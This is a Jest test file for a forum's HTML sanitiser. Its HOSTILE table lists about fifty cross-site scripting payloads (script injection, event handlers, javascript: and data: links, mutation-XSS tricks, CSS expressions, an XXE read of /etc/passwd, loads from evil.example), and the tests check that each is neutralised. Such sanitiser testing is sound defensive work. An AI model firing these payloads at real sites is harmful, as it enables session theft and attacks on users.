import { RICH_TEXT } from '@riwaq/api';
import { createRequire } from 'node:module';
import { dropDeepTags, htmlForReading, htmlForStorage, OPEN_MAX } from './rich-text';

const FILE = 'Forums/0b9f1d2e-1111-4222-8333-444455556666/صورة.png';
const PATH = `/files/Forums/0b9f1d2e-1111-4222-8333-444455556666/${encodeURIComponent('صورة.png')}`;
const stored = (html: string) => htmlForStorage(html).html;

/** Known attacks that run a script or load something, by their technique. */
const HOSTILE: Record<string, string> = {
  script: '<script>alert(1)</script>',
  'script in capitals': '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  'script broken up': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'script never closed': '<script>alert(1)',
  'event handler': '<img src=x onerror=alert(1)>',
  'event handler without spaces': '<img/src=x/onerror=alert(1)>',
  'event handler over lines': '<img src="x"\n\tonerror\n=\n"alert(1)">',
  'handler on allowed elements':
    '<p onclick="alert(1)" onmouseover=alert(1)>x</p><video onloadstart=alert(1) src=x></video><audio autoplay onplay=alert(1) src=x></audio><details open ontoggle=alert(1)>',
  'javascript link': '<a href="javascript:alert(1)">x</a>',
  'javascript link in disguise':
    '<a href=" java\tscript\n:alert(1)">x</a><a href="&#106;&#97;vascript&colon;alert(1)">x</a><a href="JaVaScRiPt&#x3A;alert(1)">x</a>',
  'javascript link behind control characters':
    '<a href="\u0001javascript:alert(1)">x</a><a href="java\u0000script:alert(1)">x</a>',
  'data link':
    '<a href="data:text/html,<script>alert(1)</script>">x</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'data picture': '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  svg: '<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1) attributeName=x></svg>',
  'svg link': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'svg use': '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"/></svg>',
  math: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  'mutation by noscript':
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'mutation by style': '<style><a title="</style><img src=x onerror=alert(1)>"></style>',
  'mutation by textarea':
    '<textarea><a title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  'mutation by title': '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  'mutation by xmp': '<xmp><a title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  'mutation by form':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  'mutation by select':
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  'mutation by comment':
    '<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)> -->',
  'mutation by cdata': '<![CDATA[><img src=x onerror=alert(1)>]]>',
  'mutation by table': '<table><td><p><a id="x"><table><tr><img src=x onerror=alert(1)>',
  'mutation by back-tick': '<img alt="`><img src=x onerror=alert(1)>" title=`x onerror=alert(1)`>',
  'plain text element': '<plaintext><img src=x onerror=alert(1)>',
  iframe:
    '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'object and embed':
    '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)"><applet code=x></applet>',
  'base and meta':
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href="https://evil.example/x.css">',
  form: '<form action="https://evil.example"><input name=password autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
  'style that covers':
    '<div style="position:fixed;inset:0;z-index:99999;background:url(https://evil.example/x)">x</div>',
  'style that loads':
    '<p style="background-image:url(javascript:alert(1));behavior:url(x.htc);-moz-binding:url(x)">x</p>',
  'style by expression': '<p style="width:expression(alert(1));color:expression(alert(1))">x</p>',
  'style in disguise': '<p style="pos\\69tion:fixed;color:red;/**/position:absolute">x</p>',
  'class that belongs to the page': '<div class="rw-modal ant-modal-root media-wrap">x</div>',
  'id that shadows':
    '<img id="location" name="cookie" src="x"><a id=config name=config href=x>x</a>',
  'picture without a scheme': '<img src="//evil.example/x.png" srcset="javascript:alert(1) 1x">',
  'pictures of other sites':
    '<img src="https://evil.example/p.gif"><IMG SRC=http://evil.example/p><img src="\thttps://evil.example/p"><img src="https:evil.example/p"><img src="http:\\\\evil.example"><img src="/\\evil.example">',
  'media of other sites':
    '<video poster="//evil.example/p"><source src="https://evil.example/v"><video src="https://evil.example/v"><source src=x></video></video><audio><source src="https://evil.example/a"></audio><source src="https://evil.example/s">',
  'sources of pictures':
    '<picture><source srcset="https://evil.example/x" onerror=alert(1)><img src=x></picture>',
  'media poster': '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
  'element with a colon': '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  'processing instruction':
    '<?xml-stylesheet href="javascript:alert(1)"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  'custom element': '<x-evil onclick=alert(1) is="x">x</x-evil>',
  'null octets': '<img src=x o\u0000nerror=alert(1)><scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'angle brackets of other scripts': '＜script＞alert(1)＜/script＞<img src=x onerror=alert(1)//',
  'thousands deep': `${'<div>'.repeat(5000)}<img src=x onerror=alert(1)>`,
  'attributes twice':
    '<a href="https://ok.example" href="javascript:alert(1)" HREF="javascript:alert(2)">x</a>',
};

const { JSDOM } = createRequire(require.resolve('jest-environment-jsdom'))('jsdom') as {
  JSDOM: new (html: string) => { window: { document: Document } };
};

interface Element {
  tagName: string;
  attributes: Iterable<{ name: string; value: string }>;
  getAttribute(name: string): string | null;
}
interface Document {
  body: { querySelectorAll(selector: string): Iterable<Element>; innerHTML: string };
}
/** Parses HTML like a browser. */
const parsed = (html: string) =>
  new JSDOM(`<!doctype html><body>${html}</body>`).window.document.body;

const TAGS: ReadonlySet<string> = new Set([...RICH_TEXT.tags, 'tbody']);
const ATTRIBUTES: ReadonlySet<string> = new Set(Object.values(RICH_TEXT.attributes).flat());

function expectInert(html: string): void {
  for (const element of parsed(html).querySelectorAll('*')) {
    expect(TAGS).toContain(element.tagName.toLowerCase());
    for (const { name, value } of element.attributes) {
      expect(ATTRIBUTES).toContain(name);
      if (name === 'src' || name === 'poster') expect(value).toMatch(/^\/files\//);
      if (name === 'href') expect(value).toMatch(/^(?:https?:|mailto:|tel:|(?!\/\/)[^:]*$)/);
      if (name === 'style')
        expect(value).not.toMatch(/url|expression|position|behavior|\\|binding|z-index|inset/i);
      if (name === 'class')
        for (const part of value.split(' ').filter(Boolean))
          expect(RICH_TEXT.classes).toContain(part);
    }
  }
}

test.each(Object.entries(HOSTILE))('neutralises %s', (_what, html) => {
  const once = stored(html);
  expectInert(once);
  // It must stay inert after being parsed and serialised again.
  expectInert(parsed(once).innerHTML);
  expectInert(stored(parsed(once).innerHTML));
  expect(stored(once)).toBe(once);
});

test('keeps what the editor produces', () => {
  const html =
    '<h2 style="text-align:center">عنوان</h2><p dir="rtl"><strong>نص</strong> <em>مائل</em> <u>x</u><br />&lt;b&gt;</p>' +
    '<ul><li style="color:#ff0000">أ</li></ul><table><tbody><tr><td colspan="2">1</td></tr></tbody></table>' +
    '<div class="media-wrap image-wrap align-center" style="text-align:center"><img src="/files/Forums/0b9f1d2e-1111-4222-8333-444455556666/x.png" width="50%" /></div>';
  expect(stored(html)).toBe(html);
});

test.each([
  ['ltr', '<p dir="ltr">x</p>'],
  ['rtl', '<p dir="rtl">x</p>'],
  ['RTL', '<p dir="rtl">x</p>'],
  ['auto', '<p>x</p>'],
  ['', '<p>x</p>'],
  ['" onclick="x', '<p>x</p>'],
])('stores the direction %j of a block only if it is valid', (dir, expected) =>
  expect(stored(`<p dir="${dir}">x</p>`)).toBe(expected),
);

test('opens links in a new tab without opener or referrer', () => {
  expect(
    stored('<a href="https://example.edu/?a=1&amp;b=2" rel="opener" target="_self">x</a>'),
  ).toBe(
    '<a href="https://example.edu/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  );
});

test.each([PATH, `${PATH}?use=preview&expires=9&signature=abc`, FILE.replace(/^/, '/files/')])(
  'stores the own file at %s by its plain address and reports it',
  (address) => {
    const { html, fileUrls } = htmlForStorage(
      `<p><img src="${address.replaceAll('&', '&amp;')}" /></p>`,
    );
    expect(html).toBe(`<p><img src="${PATH}" /></p>`);
    expect(fileUrls).toEqual([FILE]);
  },
);

const link = (address: string, words = address) =>
  `<a href="${address}" target="_blank" rel="noopener noreferrer nofollow">${words}</a>`;
const PIXEL = 'https://tracker.example/p.gif?a=1&amp;b=2';

test.each([
  [
    'a picture, by its address',
    `<p>x <img src="${PIXEL}" width="1"> y</p>`,
    `<p>x ${link(PIXEL)} y</p>`,
  ],
  [
    'a picture, by its words',
    `<img alt="a &quot;b&quot; &lt;i&gt;" src="${PIXEL}">`,
    link(PIXEL, 'a "b" &lt;i&gt;'),
  ],
  ['a picture, by its title', `<img title="map" src="${PIXEL}">`, link(PIXEL, 'map')],
  [
    'a picture whose path looks like one of ours',
    `<img src="https://lms.example.edu${PATH}">`,
    link(`https://lms.example.edu${PATH}`),
  ],
  [
    'a picture that is a link already',
    `<a href="https://example.edu"><img src="${PIXEL}" alt="words"></a><img src="${PIXEL}" alt="after">`,
    `${link('https://example.edu', 'words')}${link(PIXEL, 'after')}`,
  ],
  [
    'a video inside a link',
    `<a href="https://example.edu"><video src="${PIXEL}"></video></a>`,
    link('https://example.edu', PIXEL),
  ],
  [
    'a picture of another site without a scheme',
    '<img src="//tracker.example/p.gif" alt="words"><img src="/\\tracker.example/p.gif" alt="more">',
    'wordsmore',
  ],
  [
    'a picture that leads nowhere',
    '<p>x<img src="relative.png"><img src="/api/Account/Logout" alt="words"></p>',
    '<p>xwords</p>',
  ],
  [
    'a sound and a video',
    `<audio src="${PIXEL}" controls>old browser</audio><video src="${PIXEL}" poster="${PIXEL}"></video>`,
    `${link(PIXEL)}old browser${link(PIXEL)}`,
  ],
  [
    'sources',
    `<video controls><source src="${PIXEL}"><source src="https://other.example/b.mp4"></video>`,
    `${link(PIXEL)} ${link('https://other.example/b.mp4')}`,
  ],
])('replaces media of another site by a link for %s', (_what, html, expected) => {
  expect(stored(html)).toBe(expected);
  expect(stored(expected)).toBe(expected);
  // Text that was stored without the replacement is cleaned when read, too.
  expect(htmlForReading(html, () => 'x')).not.toMatch(/<(?:img|audio|video|source)/);
});

test('keeps own sources of a video and drops foreign ones', () => {
  expect(
    stored(
      `<video controls poster="${PIXEL}"><source src="${PATH}"><source src="${PIXEL}">text</video>`,
    ),
  ).toBe(`<video controls><source src="${PATH}">text</video>`);
  expect(
    stored(`<video src="${PATH}" poster="${PATH}"></video><video poster="${PIXEL}"></video>`),
  ).toBe(`<video src="${PATH}" poster="${PATH}"></video><video></video>`);
});

test('reports every own file that is shown, linked or used as a poster once', () => {
  const { fileUrls } = htmlForStorage(
    `<img src="${PATH}"><a href="${PATH}">x</a><video poster="${PATH}" src="/files/Forums/0b9f1d2e-1111-4222-8333-444455556667/a.mp4"></video><img src="/files/x/y">`,
  );
  expect(fileUrls).toEqual([FILE, 'Forums/0b9f1d2e-1111-4222-8333-444455556667/a.mp4']);
});

test('signs own files only inside tags when reading', () => {
  const { html } = htmlForStorage(
    `<p>src="${PATH}" <img src="${PATH}" alt='a > b src="${PATH}"' /></p><a href="https://example.edu${'/x'}">y</a>`,
  );
  const read = htmlForReading(
    html,
    (fileUrl) => `/files/${encodeURI(fileUrl)}?use=preview&signature=s`,
  );
  expect(read.match(/signature=s/g)).toHaveLength(1);
  expect(
    [...parsed(read).querySelectorAll('img')].map((image) => image.getAttribute('src')),
  ).toEqual([`${encodeURI(`/files/${FILE}`)}?use=preview&signature=s`]);
  expect(stored(read)).toBe(html);
});

test('extracts the visible text for search', () => {
  expect(
    htmlForStorage('<h2>العنوان</h2><p>سطر<br>آخر &amp; &lt;b&gt;</p><script>no</script>').text,
  ).toBe('العنوان سطر آخر & <b>');
});

test('replaces a forbidden block by an allowed one, so that words stay separate', () => {
  expect(
    stored('<h6>six</h6><dl><dt>term</dt><dd dir="rtl">def</dd></dl><section><p>x</p></section>'),
  ).toBe('<h5>six</h5><div>term</div><div dir="rtl">def</div><p>x</p>');
  expect(stored('<table><tfoot><tr><td>sum</td></tr></tfoot></table>')).toBe(
    '<table><tbody><tr><td>sum</td></tr></tbody></table>',
  );
  expect(stored('a <mark>marked</mark> word')).toBe('a marked word');
});

// The parser takes time for each open element at each following one, so that their number must be
// bounded.
test.each(['<b><i>', '<i>', '<p><i>', '<ul><li>'])(
  'parses a bounded number of %s left open',
  (opening) => {
    const openings = opening.repeat(200_000 / opening.length);
    expect(dropDeepTags(`${openings}${'<p>'.repeat(30_000)}`).match(/<[a-z]+>/g)).toHaveLength(
      OPEN_MAX,
    );
    expect(htmlForStorage(`${openings}the end`).text).toBe('the end');
  },
);

test('takes linear time for tags that never end', () => {
  // Quadratic time would take minutes.
  expect(htmlForStorage(`<p>a</p>${'<a'.repeat(300_000)}`).text).toBe('a');
});

test.each([
  '<br>',
  '<br />',
  `<img src="/files/Forums/${'a'.repeat(8)}-aaaa-4aaa-8aaa-${'a'.repeat(12)}/a.png" />`,
  '<hr>',
  '<p>x</p>',
  '<b>x</b><br>',
])('keeps every element of a long text of %s', (piece) => {
  const count = 12_000;
  const name = /<(\w+)/.exec(piece)?.[1] ?? '';
  expect(
    htmlForStorage(piece.repeat(count)).html.match(new RegExp(`<${name}\\b`, 'g')),
  ).toHaveLength(count);
});
